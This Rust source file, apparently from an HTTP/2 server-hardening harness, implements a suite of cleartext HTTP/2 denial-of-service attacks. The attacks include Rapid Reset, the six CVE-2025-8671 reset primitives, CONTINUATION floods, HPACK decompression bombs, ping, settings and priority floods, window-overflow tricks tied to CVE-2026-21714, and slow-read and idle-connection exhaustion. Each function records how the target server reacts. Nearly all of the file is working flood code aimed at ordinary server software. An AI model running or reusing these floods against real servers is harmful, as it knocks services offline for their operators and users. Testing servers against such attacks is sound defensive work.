//! Attacks over HTTP/2, in cleartext.

use super::frames::*;
use super::wire::{Fate, connect, fate_of, send};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

const LARGE: &[u8] = b"/bytes/1000000000";
const FLOOD: u32 = 20_000;
const CANCEL: u32 = 8;
/// Time for one read, which waits for an answer.
const ANSWER: Duration = Duration::from_nanos(1);
const SECOND: Duration = Duration::from_secs(1);

/// A request for an answer that is larger than any memory.
fn get_large(stream: u32) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x04, LARGE.len() as u8];
    block.extend(LARGE);
    block.extend([0x01, 1, b'a']);
    headers(stream, &block, true)
}
fn id(count: u32) -> u32 {
    1 + 2 * count
}
fn initial_window(bytes: u32) -> Vec<u8> {
    settings(&[(INITIAL_WINDOW_SIZE, bytes)])
}

fn handshake(address: SocketAddr, first: &[u8]) -> TcpStream {
    let mut socket = connect(address);
    send(&mut socket, &[PREFACE, first].concat());
    socket
}

/// Sends what `next` gives until the server does not take it, then waits for its answer to that.
fn flood(address: SocketAddr, first: &[u8], mut next: impl FnMut(u32) -> Vec<u8>) -> Vec<Fate> {
    let mut socket = handshake(address, &settings(&[]));
    send(&mut socket, first);
    for batch in 0..FLOOD / 50 {
        let bytes: Vec<u8> = (0..50).flat_map(|at| next(batch * 50 + at)).collect();
        if !send(&mut socket, &bytes) {
            break;
        }
        // Received bytes are read, as by a client that wants to go on.
        if let fate @ Fate::Goaway(_) = fate_of(&mut socket, Duration::ZERO) {
            return vec![fate];
        }
    }
    vec![fate_of(&mut socket, 20 * SECOND)]
}

pub(crate) fn rapid_reset(address: SocketAddr) -> Vec<Fate> {
    flood(address, &[], |at| {
        [headers(id(at), GET, true), reset(id(at), CANCEL)].concat()
    })
}
pub(crate) fn rapid_reset_between(address: SocketAddr) -> Vec<Fate> {
    // The good ones need not wait for the connection's window.
    let first = [settings(&[]), window_update(0, 1 << 30)].concat();
    let mut socket = handshake(address, &first);
    let pair = |at: u32| {
        let good = headers(id(2 * at), GET, true);
        let bad = headers(id(2 * at + 1), POST, false);
        [good, bad, reset(id(2 * at + 1), CANCEL)].concat()
    };
    for batch in 0..FLOOD / 10 {
        let bytes: Vec<u8> = (0..10).flat_map(|at| pair(batch * 10 + at)).collect();
        send(&mut socket, &bytes);
        // The good ones are answered before more is asked: else they are refused, which counts too.
        if let fate @ Fate::Goaway(_) = fate_of(&mut socket, ANSWER) {
            return vec![fate];
        }
    }
    vec![fate_of(&mut socket, 20 * SECOND)]
}

/// The six primitives of CVE-2025-8671, a connection for each.
pub(crate) fn made_you_reset(address: SocketAddr) -> Vec<Fate> {
    /// Bytes on a stream of this number.
    type Primitive = fn(u32) -> Vec<u8>;
    let primitives: [(bool, Primitive); 6] = [
        (false, |id| window_update(id, 0)),
        (false, |id| window_update(id, 0x7fff_ffff)),
        (false, |id| frame(PRIORITY, 0, id, &[0; 4])),
        (false, |id| {
            frame(PRIORITY, 0, id, &[&id.to_be_bytes()[..], &[0]].concat())
        }),
        (true, |id| headers(id, GET, true)),
        (true, |id| data(id, b"x")),
    ];
    let attack = |(ended, provoke): (bool, fn(u32) -> Vec<u8>)| {
        let request = if ended { GET } else { POST };
        flood(address, &[], |at| {
            [headers(id(at), request, ended), provoke(id(at))].concat()
        })
    };
    primitives.into_iter().flat_map(attack).collect()
}
pub(crate) fn continuations(address: SocketAddr) -> Vec<Fate> {
    let begun = frame(HEADERS, 0, 1, GET);
    flood(address, &begun, |_| continuation(1, &[]))
}
pub(crate) fn large_continuations(address: SocketAddr) -> Vec<Fate> {
    let begun = frame(HEADERS, 0, 1, GET);
    flood(address, &begun, |_| continuation(1, &[0x82; 16_384]))
}
pub(crate) fn bomb_behind_shut_window(address: SocketAddr) -> Vec<Fate> {
    let block = bomb(4_000);
    flood(address, &initial_window(0), |at| {
        headers(id(at), &block, true)
    })
}
/// Requests that are one reference 4,000 times, of connections whose tables hold 4 KiB.
pub(crate) fn hpack_bomb(address: SocketAddr) -> Vec<Fate> {
    let block = [GET, &bomb(12_000)].concat();
    flood(address, &[], |at| headers(id(at), &block, true))
}
/// A peer whose table has 4 GiB for what we encode, and that wants one for what it encodes.
pub(crate) fn large_tables(address: SocketAddr) -> Vec<Fate> {
    let first = settings(&[(HEADER_TABLE_SIZE, u32::MAX)]);
    flood(address, &first, |at| {
        // A size update to 2^30 (RFC 7541 section 6.3).
        let block = [&[0x3f, 0xe1, 0xff, 0xff, 0xff, 0x03], GET].concat();
        headers(id(at), &block, true)
    })
}
pub(crate) fn pings(address: SocketAddr) -> Vec<Fate> {
    flood(address, &[], |_| ping())
}
pub(crate) fn settings_flood(address: SocketAddr) -> Vec<Fate> {
    flood(address, &[], |_| settings(&[]))
}
pub(crate) fn goaways(address: SocketAddr) -> Vec<Fate> {
    // A server that drains goes on for as long as a request is open.
    flood(address, &headers(1, POST, false), |_| goaway(0, 0))
}
pub(crate) fn priorities(address: SocketAddr) -> Vec<Fate> {
    flood(address, &headers(1, POST, false), |at| {
        frame(PRIORITY, 0, id(at), &[0, 0, 0, 0, 1])
    })
}
pub(crate) fn priority_updates(address: SocketAddr) -> Vec<Fate> {
    flood(address, &[], |at| {
        let payload = [&id(at + 1).to_be_bytes()[..], b"u=1"].concat();
        frame(PRIORITY_UPDATE, 0, 0, &payload)
    })
}
/// Requests that are malformed, each of which we reset.
pub(crate) fn malformed(address: SocketAddr) -> Vec<Fate> {
    let block = [GET, &field(b"UPPER", b"1")].concat();
    flood(address, &[], |at| headers(id(at), &block, true))
}
pub(crate) fn empty_names(address: SocketAddr) -> Vec<Fate> {
    let block = [GET, &[0, 0, 0].repeat(1_000)].concat();
    flood(address, &[], |at| headers(id(at), &block, true))
}
pub(crate) fn empty_data(address: SocketAddr) -> Vec<Fate> {
    flood(address, &headers(1, POST, false), |_| data(1, &[]))
}
pub(crate) fn window_updates(address: SocketAddr) -> Vec<Fate> {
    flood(address, &headers(1, POST, false), |_| window_update(1, 1))
}
pub(crate) fn streams(address: SocketAddr) -> Vec<Fate> {
    flood(address, &[], |at| headers(id(at), POST, false))
}
/// A scheme that is not the connection's.
pub(crate) fn foreign_scheme(address: SocketAddr) -> Vec<Fate> {
    let first = [settings(&[]), window_update(0, 1 << 30)].concat();
    let mut socket = handshake(address, &first);
    for at in 0..1_000 {
        let block = [&[0x82, 0x87, 0x84, 0x01, 1, b'a'][..]].concat();
        send(&mut socket, &headers(id(at), &block, true));
        if let fate @ Fate::Goaway(_) = fate_of(&mut socket, ANSWER) {
            return vec![fate];
        }
    }
    vec![fate_of(&mut socket, SECOND)]
}

/// Forty connections that ask for a hundred answers each.
fn hundred_answers(address: SocketAddr, first: &[u8]) -> Vec<TcpStream> {
    let asked: Vec<u8> = (0..100).flat_map(|at| get_large(id(at))).collect();
    let mut idle_connections: Vec<_> = (0..40).map(|_| handshake(address, first)).collect();
    for socket in &mut idle_connections {
        send(socket, &settings_ack());
        send(socket, &asked);
    }
    idle_connections
}
pub(crate) fn shut_windows(address: SocketAddr) -> Vec<Fate> {
    let mut idle_connections = hundred_answers(address, &initial_window(0));
    std::thread::sleep(35 * SECOND);
    idle_connections
        .iter_mut()
        .map(|it| fate_of(it, SECOND))
        .collect()
}
pub(crate) fn unread(address: SocketAddr) -> Vec<Fate> {
    let first = [initial_window(1 << 30), window_update(0, 1 << 30)].concat();
    let idle_connections = hundred_answers(address, &first);
    std::thread::sleep(20 * SECOND);
    // Their end is due at 30 s where the budget is scarce; till then they live, which to read would change.
    idle_connections.iter().map(|_| Fate::Open).collect()
}
/// As above behind shut windows, ended again and again by an overflow of the connection's window
/// (CVE-2026-21714: the memory of such a connection was never freed).
pub(crate) fn overflowed_windows(address: SocketAddr) -> Vec<Fate> {
    let mut fates = Vec::new();
    for _ in 0..25 {
        let mut idle_connections = hundred_answers(address, &initial_window(0));
        for socket in &mut idle_connections {
            send(socket, &window_update(0, 0x7fff_ffff));
            fates.push(fate_of(socket, 5 * SECOND));
        }
    }
    fates
}
/// An initial window above 2^31-1.
pub(crate) fn oversized_window(address: SocketAddr) -> Vec<Fate> {
    let mut idle_connections = hundred_answers(address, &initial_window(0));
    let overflow = initial_window(0x8000_0000);
    for socket in &mut idle_connections {
        send(socket, &overflow);
    }
    idle_connections
        .iter_mut()
        .map(|it| fate_of(it, 5 * SECOND))
        .collect()
}
pub(crate) fn silent(address: SocketAddr) -> Vec<Fate> {
    let mut idle_connections: Vec<_> = (0..200).map(|_| connect(address)).collect();
    for socket in &mut idle_connections {
        // Enough to be HTTP/2's.
        send(socket, PREFACE);
    }
    std::thread::sleep(12 * SECOND);
    idle_connections
        .iter_mut()
        .map(|it| fate_of(it, SECOND))
        .collect()
}
